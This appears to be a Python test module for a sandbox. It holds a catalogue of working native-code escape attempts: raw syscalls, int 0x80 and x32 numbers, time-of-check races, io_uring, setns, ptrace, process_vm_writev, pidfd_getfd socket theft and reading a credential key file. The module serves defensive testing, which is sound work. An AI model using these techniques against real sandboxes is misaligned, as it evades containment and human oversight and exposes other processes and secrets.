"""Past Python: the C library and the kernel's own interfaces, by native code that was made ready in time.

The first three make it ready only when it is wanted, which is what careless code does.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import socket
import struct
import threading
import time

from collectors import Resolver
from tests.escape.third_party.hostile.native import INET, STREAM, C, call, inet, old_call, place
from tests.escape.third_party.hostile.way import SILENT, At, attempt

_DATAGRAM = 2
# System calls of x86-64, by number.
_SOCKET, _CONNECT, _SENDTO, _SENDMSG = 41, 42, 44, 46
_SENDMMSG, _CLONE, _KILL, _PTRACE, _UNSHARE, _PRLIMIT, _SETNS = 307, 56, 62, 101, 272, 302, 308
_READV, _WRITEV, _PIDFD, _GETFD, _OPENAT = 310, 311, 434, 438, 257
_URING_SETUP, _URING_ENTER = 425, 426
_SEIZE = 0x4206
_NEW_USER, _NEW_NET = 0x10000000, 0x40000000


@attempt("the C library, looked up late: socket and connect")
def late_connect(at: At) -> None:
    library = ctypes.CDLL(None)
    library.connect(library.socket(INET, STREAM, 0), inet(at.spot.other, 22), 16)


@attempt("the C library, looked up late: sendto")
def late_sendto(at: At) -> None:
    library = ctypes.CDLL(None)
    library.sendto(library.socket(INET, _DATAGRAM, 0), b"out", 3, 0, inet(at.spot.other, 53), 16)


@attempt("the C library, looked up late: syscall")
def late_system_call(at: At) -> None:
    call_late = ctypes.CDLL(None).syscall
    call_late(_CONNECT, call_late(_SOCKET, INET, STREAM, 0), inet(at.spot.other, 22), 16)


@attempt("the C library's socket and connect, looked up in time")
def c_connect(at: At) -> None:
    _connect(_socket(INET, STREAM, 0), inet(at.spot.other, 22), 16)


_connect, _socket, _sendto = C.connect, C.socket, C.sendto
_pthread_create, _pthread_join = C.pthread_create, C.pthread_join


@attempt("the C library's sendto, looked up in time")
def c_sendto(at: At) -> None:
    _sendto(_socket(INET, _DATAGRAM, 0), b"out", 3, 0, inet(at.spot.other, 53), 16)


@attempt("connect by a system call of one's own, on a socket that Python made")
def call_connect(at: At) -> None:
    line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    to = inet(at.spot.other, 22)
    call(_CONNECT, line.fileno(), place(to), 16)


@attempt("sendto by a system call of one's own")
def call_sendto(at: At) -> None:
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    to, what = inet(at.spot.other, 53), b"out"
    call(_SENDTO, line.fileno(), place(what), 3, 0, place(to), 16)


def _message(to: bytes, what: bytes, options: bytes = b"") -> tuple[bytes, bytes]:
    """A `struct msghdr`, and what it points to."""
    vector = struct.pack("=QQ", place(what), len(what))
    head = struct.pack(
        "=QIxxxxQQQQixxxx",
        place(to),
        len(to),
        place(vector),
        1,
        place(options) if options else 0,
        len(options),
        0,
    )
    return head, vector


@attempt("sendmsg by a system call of one's own")
def call_sendmsg(at: At) -> None:
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    to, what = inet(at.spot.other, 53), b"out"
    head, kept = _message(to, what)
    call(_SENDMSG, line.fileno(), place(head), 0)
    del kept


@attempt("sendmmsg: several messages in one call")
def call_sendmmsg(at: At) -> None:
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    to, what = inet(at.spot.other, 53), b"out"
    head, kept = _message(to, what)
    messages = head + bytes(8)
    call(_SENDMMSG, line.fileno(), place(messages), 1, 0)
    del kept


@attempt("TCP fast open by a system call of one's own")
def call_fast_open(at: At) -> None:
    line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    to, what = inet(at.spot.other, 22), b"out"
    call(_SENDTO, line.fileno(), place(what), 3, socket.MSG_FASTOPEN, place(to), 16)


@attempt("a raw socket by a system call of one's own")
def call_raw(at: At) -> None:
    line, to = call(_SOCKET, INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), inet(at.spot.other, 0)
    what = b"\x08\x00\xf7\xff\x00\x00\x00\x00"
    call(_SENDTO, line, place(what), len(what), 0, place(to), 16)


@attempt("a unix socket by system calls of one's own, to somebody who forwards")
def call_unix(at: At) -> None:
    line, to = call(_SOCKET, 1, STREAM, 0), struct.pack("=H", 1) + b"forward.sock\0"
    call(_CONNECT, line, place(to), len(to))
    os.write(line, f"{at.spot.other} 22\n".encode())
    os.read(line, 1)


@attempt("an option (SO_BINDTODEVICE) by a system call of one's own", moves=("twin", "web"))
def call_option(at: At) -> None:
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name = b"eth1\0"
    call(54, line.fileno(), socket.SOL_SOCKET, socket.SO_BINDTODEVICE, place(name), 5)
    line.sendto(b"out", (at.door, at.port))


@attempt("the 32-bit way into the kernel (int 0x80), with numbers of its own")
def old_interrupt(at: At) -> None:
    # What a 32-bit call is given must lie in the low part of memory.
    for number, byte in enumerate(inet(at.spot.other, 53)):
        _LOW[number] = byte
    # socket is 359, connect 362 there.
    line = old_call(359, INET, _DATAGRAM, 0)
    old_call(362, line, _LOW_AT, 16)
    os.write(line, b"out")


C.mmap.restype = ctypes.c_void_p
# MAP_32BIT, private, of nothing.
_LOW_AT = C.mmap(None, ctypes.c_size_t(4096), 3, 0x62, -1, 0)
_LOW = (ctypes.c_ubyte * 16).from_address(_LOW_AT)


@attempt("the x32 numbers of system calls; where there are none, the plain ones")
def x32_numbers(at: At) -> None:
    to = inet(at.spot.other, 22)
    with contextlib.suppress(OSError):
        call(0x40000000 + _CONNECT, call(0x40000000 + _SOCKET, INET, STREAM, 0), place(to), 16)
        return
    call(_CONNECT, call(_SOCKET, INET, STREAM, 0), place(to), 16)


@attempt("an address that another thread changes while the call is judged")
def changed_address(at: At) -> None:
    good, bad = inet(at.door, at.port), inet(at.spot.other, 53)
    over = threading.Event()

    def flip() -> None:
        while not over.is_set():
            _FLIPPED[:] = bad
            _FLIPPED[:] = good

    _FLIPPED[:] = good
    flipping = threading.Thread(target=flip)
    flipping.start()
    try:
        until = time.monotonic() + 3
        while time.monotonic() < until:
            line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            with contextlib.closing(line), contextlib.suppress(OSError):
                call(_CONNECT, line.fileno(), _FLIPPED_AT, 16)
                if line.getpeername()[0] == at.spot.other:
                    line.send(b"out")
                    return
    finally:
        over.set()
        flipping.join()


_FLIPPED = mmap.mmap(-1, 16)
_FLIPPED_AT = ctypes.addressof(ctypes.c_char.from_buffer(_FLIPPED))


@attempt("a descriptor that another thread exchanges while the call is judged", over=Resolver)
def changed_descriptor(at: At) -> None:
    door, other, what = inet(at.door, at.port), inet(at.spot.other, 53), b"out"
    over = threading.Event()
    line = os.dup(0)

    def flip() -> None:
        while not over.is_set():
            with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as tame:
                with contextlib.suppress(OSError):
                    call(_CONNECT, tame.fileno(), place(door), 16)
                os.dup2(tame.fileno(), line)
            with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as wild:
                os.dup2(wild.fileno(), line)

    flipping = threading.Thread(target=flip)
    flipping.start()
    until = time.monotonic() + 3
    try:
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                call(_SENDTO, line, place(what), 3, 0, place(other), 16)
                return
    finally:
        over.set()
        flipping.join()
        os.close(line)


@attempt("connect to nobody (AF_UNSPEC) to get free of the door, then elsewhere", over=Resolver)
def unspecified(at: At) -> None:
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.connect((at.door, at.port))
    nobody, to = bytes(16), inet(at.spot.other, 53)
    with contextlib.suppress(OSError):
        call(_CONNECT, line.fileno(), place(nobody), 16)
    call(_CONNECT, line.fileno(), place(to), 16)
    line.send(b"out")


@attempt("another socket put under a descriptor that is connected to its door, natively", over=Resolver)
def call_dup2(at: At) -> None:
    line, wild = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
    line.connect((at.door, at.port))
    call(33, wild.fileno(), line.fileno())
    to, what = inet(at.spot.other, 53), b"out"
    call(_SENDTO, line.fileno(), place(what), 3, 0, place(to), 16)


@attempt("io_uring: the kernel connects by itself, without the system call")
def io_uring(at: At) -> None:
    parameters = bytes(bytearray(120))
    ring = call(_URING_SETUP, 4, place(parameters))
    numbers = struct.unpack("=30I", parameters)
    queue = mmap.mmap(ring, numbers[16] + numbers[0] * 4, offset=0)
    entries = mmap.mmap(ring, 64 * numbers[0], offset=0x10000000)
    line, to = socket.socket(socket.AF_INET, socket.SOCK_STREAM), inet(at.spot.other, 22)
    struct.pack_into("=BBHiQQII", entries, 0, 16, 0, 0, line.fileno(), 16, place(to), 0, 0)
    struct.pack_into("=I", queue, numbers[16], 0)
    struct.pack_into("=I", queue, numbers[11], 1)
    call(_URING_ENTER, ring, 1, 1, 1, 0, 0)


@attempt("setns into a namespace that is wired to everybody, by a file of /proc")
def setns(at: At) -> None:
    with open(f"/proc/{at.victim}/ns/net", "rb") as there:  # noqa: PTH123 - its number is what counts.
        call(_SETNS, there.fileno(), _NEW_NET)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", (at.spot.other, 53))


@attempt("setns by the number of a process in such a namespace")
def setns_process(at: At) -> None:
    call(_SETNS, call(_PIDFD, at.victim, 0), _NEW_NET)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", (at.spot.other, 53))


@attempt("unshare, to be root of a network of one's own", moves=None)
def unshare(_: At) -> str:
    call(_UNSHARE, _NEW_NET)
    return "a network of its own"


@attempt("a child in a user namespace of its own, where it has all rights", moves=None)
def unshare_user(_: At) -> str:
    if call(_CLONE, _NEW_USER | 17) == 0:
        os._exit(0)
    return "a user namespace of its own"


@attempt("ptrace of another process", moves=None)
def ptrace(at: At) -> str:
    call(_PTRACE, _SEIZE, at.victim, 0, 0)
    return "traced another process"


@attempt("ptrace of the process that it comes from", moves=None)
def ptrace_parent(_: At) -> str:
    call(_PTRACE, _SEIZE, os.getppid(), 0, 0)
    return "traced its parent"


@attempt("another process's memory, by process_vm_readv without knowing where", moves=None)
def foreign_memory(at: At) -> str:
    return _moved(_READV, at.victim)


@attempt("another process's memory, written by process_vm_writev", moves=None)
def foreign_memory_write(at: At) -> str:
    return _moved(_WRITEV, at.victim)


@attempt("the memory of the process that it comes from", moves=None)
def parents_memory(_: At) -> str:
    return _moved(_WRITEV, os.getppid())


def _moved(number: int, process: int) -> str:
    memory = bytes(bytearray(8))
    here, there = struct.pack("=QQ", place(memory), 8), struct.pack("=QQ", 8, 8)
    try:
        call(number, process, place(here), 1, place(there), 1, 0)
    except OSError as error:
        # EFAULT: it would have been let, only the place is not mapped.
        if error.errno != 14:
            raise
    return "came to another process's memory"


@attempt("another process's memory, by /proc/PID/mem", moves=None)
def proc_memory(at: At) -> str:
    with open(f"/proc/{at.victim}/mem", "rb") as memory:  # noqa: PTH123 - as an attacker would.
        return f"opened {memory.name}"


@attempt("a socket that is fetched from another process (pidfd_getfd)")
def stolen_socket(at: At) -> None:
    line = socket.socket(fileno=call(_GETFD, call(_PIDFD, at.victim, 0), 99, 0))
    line.sendto(b"out", (at.spot.other, 53))


@attempt("a signal to another process", moves=None)
def signal_other(at: At) -> str:
    # The victim does not mind this one.
    os.kill(at.victim, 23)
    return "signalled another process"


@attempt("a signal to another process, natively", moves=None)
def call_signal(at: At) -> str:
    call(_KILL, at.victim, 23)
    return "signalled another process"


@attempt("a signal to the process that it comes from, natively", moves=None)
def signal_parent(_: At) -> str:
    call(_KILL, os.getppid(), 0)
    return "may signal its parent"


@attempt("another process's limits (prlimit)", moves=None)
def foreign_limits(at: At) -> str:
    into = bytes(bytearray(16))
    call(_PRLIMIT, at.victim, 7, 0, place(into))
    return "read another process's limits"


@attempt("a key file, opened natively", moves=None, untold=SILENT)
def call_open(_: At) -> str:
    name = b"credentials/escape.key\0"
    call(_OPENAT, -100, place(name), 0)
    return "opened a key"


@attempt("system calls in a thread that the C library starts")
def c_thread(at: At) -> None:
    to = inet(at.spot.other, 53)
    line = _socket(INET, _DATAGRAM, 0)

    def inside(_: object) -> None:
        _sendto(line, b"out", 3, 0, to, 16)

    run, handle = _ROUTINE(inside), ctypes.c_ulong()
    _pthread_create(ctypes.byref(handle), None, run, None)
    _pthread_join(handle, None)


_ROUTINE = ctypes.CFUNCTYPE(ctypes.c_void_p, ctypes.c_void_p)
